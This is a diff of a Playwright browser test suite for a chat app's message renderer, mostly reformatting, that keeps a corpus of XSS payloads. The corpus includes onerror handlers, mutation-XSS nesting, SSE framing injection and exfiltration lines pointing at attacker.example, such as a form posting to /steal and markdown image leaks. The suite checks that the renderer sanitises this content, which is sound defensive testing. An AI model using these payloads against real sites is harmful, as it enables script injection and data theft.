@@ -12,13 +12,15 @@ a tripped canary; the DOM checker below looks for what must never be there.
 
 from __future__ import annotations
 
+import base64
+import itertools
 import json
 from typing import Any
 
 import pytest
 from playwright.sync_api import expect
 
-from tests.browser.conftest import Server, shot
+from tests.browser.conftest import Server, goto, shot
 from tests.fake_upstream import INJECTION_TEXT, behaviour
 
 pytestmark = pytest.mark.browser
@@ -40,7 +42,7 @@ PAYLOADS = [
     '<iframe src="https://attacker.example/frame"></iframe>',
     "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>",
     '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
-    "<form action=\"https://attacker.example/steal\"><input name=q value=secret><button>Go</button></form>",
+    '<form action="https://attacker.example/steal"><input name=q value=secret><button>Go</button></form>',
     '<button formaction="https://attacker.example/">b</button><textarea autofocus onfocus=window.__pwned=1>',
     "![leak](https://attacker.example/leak?d=secret)",
     "![](//attacker.example/leak2?d=protocol-relative)",
@@ -64,7 +66,7 @@ PAYLOADS = [
     "```html\n<script>window.__pwned=1</script>\n```",
     "héllo 世界 🎉 <img src=x onerror=window.__pwned=1> ünïcödé ✓",
     INJECTION_TEXT,
-    'a\r\n\r\nevent: done\r\ndata: {}\r\n\r\nb\rid: x\r: comment',
+    "a\r\n\r\nevent: done\r\ndata: {}\r\n\r\nb\rid: x\r: comment",
 ]
 
 # Runs in the page: everything that must never appear inside `root`.
@@ -170,13 +172,20 @@ def framed(text: str, crlf: bool) -> tuple[bytes, int, str]:
     mid = "m_test"
     reasoning = "Weighing <b onmouseover=x>it</b>"
     cuts = [0, len(text) // 3, 2 * len(text) // 3, len(text)]
-    pieces = [text[a:z] for a, z in zip(cuts, cuts[1:], strict=False) if z > a]
+    pieces = [text[a:z] for a, z in itertools.pairwise(cuts) if z > a]
     out = [
         frame(
             "conversation",
             f"{mid}:1",
-            {"conversation_id": "c_x", "chat_name": "x", "user_message_id": "m_u", "assistant_message_id": mid,
-             "model": "m", "provider": "openai", "context_mode": "first"},
+            {
+                "conversation_id": "c_x",
+                "chat_name": "x",
+                "user_message_id": "m_u",
+                "assistant_message_id": mid,
+                "model": "m",
+                "provider": "openai",
+                "context_mode": "first",
+            },
             nl,
         ),
         f": keep-alive{nl}{nl}",
@@ -187,24 +196,35 @@ def framed(text: str, crlf: bool) -> tuple[bytes, int, str]:
         out.append(frame("delta", f"{mid}:{n}", {"text": p}, nl))
         n += 1
     out.append(
-        frame("done", f"{mid}:{n}", {"message_id": mid, "status": "completed", "usage": None, "cost_usd": None}, nl)
+        frame(
+            "done",
+            f"{mid}:{n}",
+            {"message_id": mid, "status": "completed", "usage": None, "cost_usd": None},
+            nl,
+        )
     )
     return "".join(out).encode(), len(pieces), reasoning
 
 
-def test_corpus_split_at_every_byte_offset_through_the_page_renderer(server: Server, open_page: Any) -> None:
-    import base64
+def test_corpus_split_at_every_byte_offset_through_the_page_renderer(
+    server: Server, open_page: Any
+) -> None:
 
     user = server.new_user("splitter")
     page, guard = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     expect(page.locator("body.ready")).to_have_count(1)
     streams = []
     for i, payload in enumerate(PAYLOADS):
         data, n, reasoning = framed(payload, crlf=i % 3 == 2)
         streams.append(
-            {"name": payload[:40], "b64": base64.b64encode(data).decode(), "text": payload,
-             "reasoning": reasoning, "deltas": n}
+            {
+                "name": payload[:40],
+                "b64": base64.b64encode(data).decode(),
+                "text": payload,
+                "reasoning": reasoning,
+                "deltas": n,
+            }
         )
     # The checker is pasted in as source: the page's CSP forbids eval.
     result = page.evaluate(SPLIT_RUNNER.replace("CHECKER_FN", CHECKER), {"streams": streams})
@@ -217,7 +237,7 @@ def test_corpus_split_at_every_byte_offset_through_the_page_renderer(server: Ser
 def test_corpus_whole_and_in_awkward_pieces_end_to_end(server: Server, open_page: Any) -> None:
     user = server.new_user("hostile")
     page, guard = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     corpus = "\n\n".join(PAYLOADS)
     server.upstream.reply = corpus
     server.upstream.chunk_size = 64
@@ -233,19 +253,25 @@ def test_corpus_whole_and_in_awkward_pieces_end_to_end(server: Server, open_page
     assert problems == [], problems
     # The SSE framing injection arrives as text (one reply, nothing else).
     stored = page.request.get(
-        f"{server.url}/chat?conversation_id=" + page.evaluate("decodeURIComponent(location.hash.slice(1))")
+        f"{server.url}/chat?conversation_id="
+        + page.evaluate("decodeURIComponent(location.hash.slice(1))")
     ).json()
     assert stored["messages"][-1]["text"] == corpus
     shot(page, "09-xss-corpus")
 
     # The same corpus cut into 1-character and 7-character deltas, then split payload by payload.
-    for spec in (behaviour("text", text=corpus, chunk_size=1), behaviour("text", text=corpus, chunk_size=7)):
+    for spec in (
+        behaviour("text", text=corpus, chunk_size=1),
+        behaviour("text", text=corpus, chunk_size=7),
+    ):
         server.upstream.script([spec])
         page.locator("#composer-input").fill("Again")
         page.locator("#composer-input").press("Enter")
         expect(page.locator("article.pending")).to_have_count(0)
         expect(page.locator("#send")).to_be_visible()
-        expect(page.locator("article.msg-assistant").last.locator(".msg-body")).to_contain_text("look-alike")
+        expect(page.locator("article.msg-assistant").last.locator(".msg-body")).to_contain_text(
+            "look-alike"
+        )
         problems = page_problems(page)
         assert problems == [], problems
     odd = [3, 5, 8, 13, 21, 34, 55, 89, 144]
@@ -267,7 +293,7 @@ def test_corpus_whole_and_in_awkward_pieces_end_to_end(server: Server, open_page
 def test_sse_parser_edge_cases(server: Server, open_page: Any) -> None:
     user = server.new_user("parser")
     page, _ = open_page(user)
-    page.goto(server.url + "/")
+    goto(page, server.url + "/")
     expect(page.locator("body.ready")).to_have_count(1)
     result = page.evaluate(
         r"""() => {
